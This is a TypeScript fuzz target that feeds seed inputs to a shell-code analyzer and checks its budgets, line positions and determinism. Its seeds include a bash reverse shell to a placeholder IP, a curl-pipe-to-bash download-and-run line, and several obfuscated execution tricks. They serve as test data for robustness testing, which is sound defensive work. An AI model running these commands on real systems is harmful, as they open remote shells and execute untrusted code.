import { shell } from '../../src/trace/languages/shell/shell.ts';
import { known } from '../../src/trace/value.ts';
import { type FuzzTarget, invariant } from './target.ts';

/** Shell code: never throws, keeps to its budget, positions that exist, the same each time. */
export const shellTarget: FuzzTarget = {
  name: 'shell',
  slowest: 3_000,
  seeds: () =>
    [
      'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n',
      'a=ba;b=sh;$a$b -c "$(echo \'di\' | rev)"; x=abcdef; echo ${x:2:3} ${x//b/c} ${x%%e*} ${#x} ${!a}\n',
      "cat <<'EOF' | sh\necho $(( 1 + 2 )) {a,b}{1..3}\nEOF\nwhile read -r l; do eval \"$l\"; done <<< 'id'\n",
      'f() { local v="$1"; case "$v" in a*|b) shift; "$@" ;; *) return 1 ;; esac; }; f abc curl -s http://203.0.113.9/x | bash -s\n',
      'for i in 98 97; do s="$s$(printf "\\\\$(printf %03o $i)")"; done; if [ -z "$s" ]; then :; else exec $s "$@" 3<>/tmp/x; fi &\n',
      'echo aGVsbG8= | base64 -d | tr a-z n-za-m | xxd -r -p | gunzip -c | sed "s/a/b/g" | cut -d: -f2 | source /dev/stdin\n',
    ].map((text) => Buffer.from(text)),
  run(input) {
    const text = new TextDecoder().decode(input);
    const once = (): string => {
      const budget = { steps: 200_000, decodedBytes: 1_000_000, commands: 2_000 };
      const reading = shell.read({
        text,
        args: [known('sh')],
        env: new Map(),
        cwd: '/',
        readFile: () => undefined,
        budget,
      });
      invariant(reading.commands.length <= 2_000, 'more commands than allowed');
      const lines = text.split('\n').length;
      for (const { command, text: code } of reading.nested) {
        invariant(command === undefined || reading.commands[command] !== undefined, 'nested code of no command');
        invariant(code.length <= 4_000_000, 'nested code out of bounds');
      }
      for (const { line, argv, text: source } of reading.commands) {
        invariant(line >= 1 && line <= lines + 1_000, `no such line: ${line}`);
        invariant(argv.length > 0 && source.length <= 400, 'a command without words or with too much text');
      }
      return JSON.stringify(reading);
    };
    const first = once();
    invariant(first === once(), 'not the same twice');
  },
};
